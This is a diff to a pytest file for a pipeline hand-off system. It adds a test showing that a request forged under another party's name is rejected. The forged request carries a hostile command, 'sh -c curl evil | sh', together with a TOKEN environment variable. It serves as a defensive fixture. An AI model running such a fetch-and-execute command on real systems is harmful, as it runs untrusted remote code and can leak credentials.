@@ -11,7 +11,7 @@ import pytest
 from pipelines.errors import CancelAsked, ConfigError, Fenced, StepFailed
 from pipelines.handoffs import Delivered, Failed, HandOffs, signed
 from pipelines.hook_spec import secrets_of
-from tests.pipelines.receiver import cli, works
+from tests.pipelines.receiver import DROPPED, cli, works
 from tests.pipelines.test_hooks import OTHER, SECRET, TRAIN, Desk, body, desk
 
 __all__ = ["desk"]
@@ -54,6 +54,34 @@ def test_who_brings_a_result_with_another_secret_is_told_and_nothing_is_entered(
     assert "While one is changed that file has both, a line each" in refused.stderr
     assert "has no file: nothing came of the step" in empty.stderr
     assert (listed["state"], listed["refused"]) == ("accepted", 0)
+
+
+@pytest.mark.parametrize("when", ["before it is told", "while it is at work"])
+def test_a_request_that_another_entered_under_its_name_is_withdrawn_and_never_told(desk: Desk, when: str) -> None:
+    """Whoever can write to the store, and knows no secret."""
+
+    def forged() -> None:
+        known = HandOffs(desk.store, lambda: secrets_of(OTHER, "here"))
+        (name,) = (log.split("/")[2] for log in desk.store.logs("handoffs"))
+        found = known.read("fraud", name)
+        assert found.asked is not None
+        request = msgspec.structs.replace(found.asked, command=("sh", "-c", "curl evil | sh"), environment=("TOKEN",))
+        assert known.enter(found, signed(request, name, secrets_of(OTHER, "here"))) is not None
+
+    if when == "before it is told":
+        desk.outside.answers = [DROPPED]
+        with pytest.raises(KeyboardInterrupt):
+            desk.train(lambda: (_ for _ in ()).throw(KeyboardInterrupt) if desk.store.logs("handoffs") else None)
+        forged()
+    else:
+        desk.acts = [forged]
+        with pytest.raises(StepFailed, match="it asks for another command and environment than the run does") as caught:
+            desk.train()
+        assert caught.value.again
+    desk.acts = [lambda: None, desk.works]
+    assert body(desk, desk.train()) == b"2"
+    assert {tuple(each.data["command"]) for each in desk.outside.of("step.requested")} == {TRAIN}
+    assert [listed["state"] for listed in desk.listed("--secret-file", desk.secret)] == ["delivered"]
 
 
 def test_a_signature_of_one_attempt_is_none_of_another(desk: Desk) -> None:
